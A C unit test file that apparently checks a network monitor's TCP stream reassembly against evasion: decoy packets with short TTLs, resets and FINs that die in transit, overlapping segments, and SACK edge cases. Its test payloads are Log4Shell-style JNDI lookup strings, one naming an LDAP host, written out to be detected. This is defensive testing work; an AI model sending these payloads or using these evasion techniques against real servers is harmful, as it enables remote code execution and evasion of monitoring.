/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "base/count.h"
#include "support/talk.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <cmocka.h>

/* Packets that die between us and the victim: only their time to live tells, and only by comparison. */

enum { ACK = TH_FLAG_ACK, SYN = TH_FLAG_SYN, FIN = TH_FLAG_FIN, RST = TH_FLAG_RST, NEAR = 3 };

static void send(const struct talk *t, unsigned from, int flags, uint32_t seq, uint32_t ack, uint8_t ttl,
                 struct bytes payload)
{
    struct packet p = talk_packet(t, from, (uint8_t)flags, seq, ack, payload);

    p.ttl = ttl;
    talk_send(p);
}

static void text(const struct talk *t, uint32_t seq, uint8_t ttl, const char *payload)
{
    send(t, 0, ACK, seq, t->seq[1], ttl, bytes_str(payload));
}

static void nothing(const struct talk *t, unsigned from, int flags, uint32_t seq, uint8_t ttl)
{
    send(t, from, flags, seq, t->seq[!from], ttl, (struct bytes){NULL, 0});
}

static int setup(void **state)
{
    (void)state;
    talk_clear();
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    stream_flush(talk_stream);
    assert_true(talk_in_order);
    assert_true(talk_adds_up);
    return 0;
}

static void reset_that_dies_on_its_way(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_handshake(&t);
    talk_say(&t, 0, "GET /${jn");
    nothing(&t, 0, RST, t.seq[0], NEAR);
    nothing(&t, 1, RST | ACK, t.seq[1], NEAR);
    talk_say(&t, 0, "di:x} HTTP");
    assert_true(talk_is(talk_heard(0), 0, "GET /${jndi:x} HTTP"));
    assert_int_equal(talk_n_anomalies(ANOMALY_OTHER_TTL), 1);
    nothing(&t, 0, RST, t.seq[0], 64);
    assert_int_equal(talk_heard(0)->side[0].n_end, 1);
    stream_flush(talk_stream);
    assert_int_equal(talk_anomaly_count(ANOMALY_OTHER_TTL), 2);
}

/* The host that refuses a connection has said nothing before. */
static void first_packet_is_no_decoy(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    nothing(&t, 0, SYN, t.seq[0], 64);
    t.seq[0]++;
    nothing(&t, 1, RST | ACK, 0, 255);
    assert_int_equal(talk_n_anomalies(ANOMALY_OTHER_TTL), 0);
}

static void fin_that_dies_on_its_way(void **state)
{
    struct talk t = talk_new(6);

    (void)state;
    talk_handshake(&t);
    talk_say(&t, 0, "GET /${jn");
    nothing(&t, 0, FIN | ACK, t.seq[0], NEAR);
    talk_ack(&t, 1);
    talk_say(&t, 0, "di:x}");
    talk_ack(&t, 1);
    assert_true(talk_is(talk_heard(0), 0, "GET /${jndi:x}"));
    assert_int_equal(talk_heard(0)->side[0].n_end, 0);
    assert_int_equal(talk_n_anomalies(ANOMALY_OTHER_TTL), 1);
    talk_fin(&t, 0);
    assert_int_equal(talk_heard(0)->side[0].n_end, 1);
}

/* The way has become longer: nobody hides anything. */
static void fin_that_is_acknowledged(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    for (unsigned early = 0; early < 2; early++) {
        talk_clear();
        t = talk_new(4);
        talk_handshake(&t);
        talk_say(&t, 0, "all");
        t.seq[0]++;
        if (early) /* merged captures: the acknowledgment first */
            talk_ack(&t, 1);
        nothing(&t, 0, FIN | ACK, t.seq[0] - 1, 60);
        assert_int_equal(talk_heard(0)->side[0].n_end, early);
        talk_ack(&t, 1);
        assert_int_equal(talk_heard(0)->side[0].n_end, 1);
    }
}

/* The decoy came first and is what the stream has; the victim gets the true bytes in whatever pieces. */
static void true_bytes_in_pieces(void **state)
{
    static const char lookup[] = "${jndi:ldap://198.51.100.7/a}";
    const uint32_t len = sizeof lookup - 1;

    (void)state;
    for (uint32_t size = 1; size <= len; size++)
        for (unsigned order = 0; order < 3; order++) {
            struct talk t = talk_new(4);
            uint32_t begin, n = (len + size - 1) / size;

            talk_clear();
            talk_handshake(&t);
            talk_say(&t, 0, "GET /?q=");
            begin = t.seq[0];
            text(&t, begin, NEAR, "-------${jndi-----------------"); /* one byte more, and some equal */
            if (order == 2)
                text(&t, begin + len + 1, 64, "far behind it, so that all of it is history at once");
            for (uint32_t i = 0; i < n; i++) {
                uint32_t at = (order == 1 ? n - 1 - i : i) * size;

                send(&t, 0, ACK, begin + at, t.seq[1], 64,
                     bytes_slice(bytes_of((const uint8_t *)lookup, len), at, at + size));
            }
            text(&t, begin + len, 64, " HTTP/1.1\r\n");
            assert_true(talk_other_has(talk_heard(0), 0, "GET /?q=${jndi:ldap://198.51.100.7/a}"));
            assert_int_equal(talk_n_anomalies(ANOMALY_OVERLAP), 1);
            assert_int_equal(talk_n_anomalies(ANOMALY_OTHER_TTL), 1);
        }
}

/* The same while all of it waits behind a hole. */
static void true_bytes_in_pieces_early(void **state)
{
    static const char lookup[] = "${jndi:ldap://198.51.100.7/a}";
    const uint32_t len = sizeof lookup - 1;

    (void)state;
    for (uint32_t size = 1; size <= len; size++) {
        struct talk t = talk_new(4);
        uint32_t begin;

        talk_clear();
        talk_handshake(&t);
        begin = t.seq[0] + 8;
        text(&t, begin, NEAR, "-----------------------------");
        for (uint32_t at = 0; at < len; at += size)
            send(&t, 0, ACK, begin + at, t.seq[1], 64,
                 bytes_slice(bytes_of((const uint8_t *)lookup, len), at, at + size));
        talk_say(&t, 0, "GET /?q=");
        text(&t, begin + len, 64, " HTTP/1.1\r\n");
        if (talk_heard(0)->side[0].n_others)
            assert_true(talk_other_has(talk_heard(0), 0, lookup));
        else
            assert_true(talk_is(talk_heard(0), 0, "GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\n"));
    }
}

/* A probe's single byte may be the one that was hidden. */
static void last_byte_alone(void **state)
{
    struct talk t = talk_new(4);

    (void)state;
    talk_handshake(&t);
    talk_say(&t, 0, "GET /${jndi:x");
    text(&t, t.seq[0], NEAR, "-");
    text(&t, t.seq[0], 64, "}");
    assert_true(talk_other_has(talk_heard(0), 0, "GET /${jndi:x}"));
}

/* Linux believes a reset at the end of what it has acknowledged selectively, too. */
static void reset_at_the_end_of_a_block(void **state)
{
    uint8_t sack[12] = {1, 1, 5, 10};
    struct talk t = talk_new(4);

    (void)state;
    talk_handshake(&t);
    talk_say(&t, 0, "GET ");
    talk_ack(&t, 1);
    text(&t, t.seq[0] + 10, 64, "early");
    nothing(&t, 0, RST, t.seq[0] + 15, 64);
    assert_int_equal(counters[COUNT_STREAM_RST_IGNORED], 1);
    for (unsigned i = 0; i < 8; i++)
        sack[4 + i] = (uint8_t)((t.seq[0] + (i < 4 ? 10 : 15)) >> (24 - 8 * (i % 4)));
    t.options[1] = bytes_of(sack, sizeof sack);
    talk_ack(&t, 1);
    nothing(&t, 0, RST, t.seq[0] + 14, 64);
    assert_int_equal(counters[COUNT_STREAM_RST_IGNORED], 2);
    nothing(&t, 0, RST, t.seq[0] + 15, 64);
    assert_int_equal(counters[COUNT_STREAM_RST_IGNORED], 2);
    assert_int_equal(talk_heard(0)->side[0].n_end, 1);
}

#define TEST(f) cmocka_unit_test_setup_teardown(f, setup, teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(reset_that_dies_on_its_way),
        TEST(first_packet_is_no_decoy),
        TEST(fin_that_dies_on_its_way),
        TEST(fin_that_is_acknowledged),
        TEST(true_bytes_in_pieces),
        TEST(true_bytes_in_pieces_early),
        TEST(last_byte_alone),
        TEST(reset_at_the_end_of_a_block),
    };

    return cmocka_run_group_tests(tests, talk_group_begin, talk_group_end);
}
